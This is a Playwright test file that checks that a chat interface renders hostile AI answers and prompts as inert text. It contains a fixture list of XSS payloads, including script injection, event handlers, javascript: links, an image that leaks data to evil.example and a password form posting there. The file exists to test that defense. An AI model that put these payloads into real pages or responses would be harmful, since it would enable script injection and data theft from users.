// What a model writes is text, whatever it writes: nothing in it runs, nothing in it calls out.
import { awake } from '../world/pages.ts';
import { expect, test } from '../world/story.ts';

const HOSTILE = [
  '<script>window.harmed = 1; alert(1)</script>',
  '<img src="https://evil.example/pixel.png" onerror="window.harmed = 2">',
  '<svg onload="window.harmed = 3"></svg><iframe src="https://evil.example/"></iframe>',
  '[click](javascript:alert(document.cookie)) and [data](data:text/html,<script>alert(1)</script>)',
  '![a picture](https://evil.example/leak?q=secret)',
  '<a href="javascript:alert(1)">link</a><style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '```html\n</code></pre><script>window.harmed = 4</script>\n```',
  '[looks good](https://evil.example/path)',
  '</title></main></body><base href="https://evil.example/">',
].join('\n\n');

test('a hostile answer is shown as text: while it streams, and in the page that the server renders', async ({
  chat,
  page,
  upstream,
}) => {
  await chat.ask('Do your worst.');
  const answer = await upstream.next();
  // Cut everywhere: half a tag must not be taken for another thing than the whole.
  answer.say(...(HOSTILE.match(/[\s\S]{1,7}/g) ?? []));
  await expect(chat.text).toContainText('<base href="https://evil.example/">');
  await harmless(page);
  answer.finish();
  await expect(chat.answer).toHaveAttribute('data-status', 'complete');
  await harmless(page);
  await page.reload();
  await awake(page);
  await harmless(page);
  // A link to elsewhere is a link, and says where it leads.
  await expect(chat.text.getByRole('link', { name: /looks good.*evil\.example/ })).toHaveAttribute(
    'href',
    'https://evil.example/path',
  );
});

async function harmless(page: import('@playwright/test').Page): Promise<void> {
  const text = page.locator('article[data-role="assistant"] .message__text').last();
  await expect(text).toContainText('<script>window.harmed = 1; alert(1)</script>');
  await expect(text).toContainText('onerror="window.harmed = 2"');
  await expect(text.locator('script, img, svg, iframe, style, form, input, base')).toHaveCount(0);
  const targets = await text.locator('a').evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol));
  expect(targets.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([]);
  expect(await page.evaluate('window.harmed')).toBeUndefined();
}

test('a hostile prompt is text too: in its bubble, in the title and in the list', async ({ chat, page, upstream }) => {
  const prompt = '</title><script>window.harmed = 5</script><img src=x onerror="window.harmed = 6">';
  await chat.ask(prompt);
  await upstream.answer('No.');
  await chat.expectAnswer('No.');
  await expect(chat.history.getByRole('link').first()).toContainText('<script>');
  await page.reload();
  await awake(page);
  await expect(chat.prompts.locator('.message__text')).toHaveText(prompt);
  await expect(page).toHaveTitle(/<script>window\.harmed = 5<\/script>/);
  await expect(chat.history.getByRole('link').first()).toContainText('<script>');
  expect(await page.evaluate('window.harmed')).toBeUndefined();
});

test('text of every script and length comes through whole', async ({ chat, page, upstream, person }) => {
  const prompt = 'Grüße, 你好, مرحبا بالعالم, 👩‍👩‍👧‍👦 and\n\na second line with <b>tags</b> & entities &amp; “quotes”';
  await chat.ask(prompt);
  const text = '你好，世界。 مرحبا 👩‍👩‍👧‍👦 e\u0301 done';
  // One character a delta: clusters are cut apart on their way.
  const answer = await upstream.next();
  expect(answer.prompt).toBe(prompt);
  answer.say(...text);
  answer.finish();
  await chat.expectAnswer(text);
  expect(await chat.prompts.locator('.message__text').innerText()).toBe(prompt);
  await page.reload();
  await awake(page);
  await chat.expectAnswer(text);
  expect((await person.stored(page.url())).map((message) => message.message)).toEqual([prompt, text]);
});
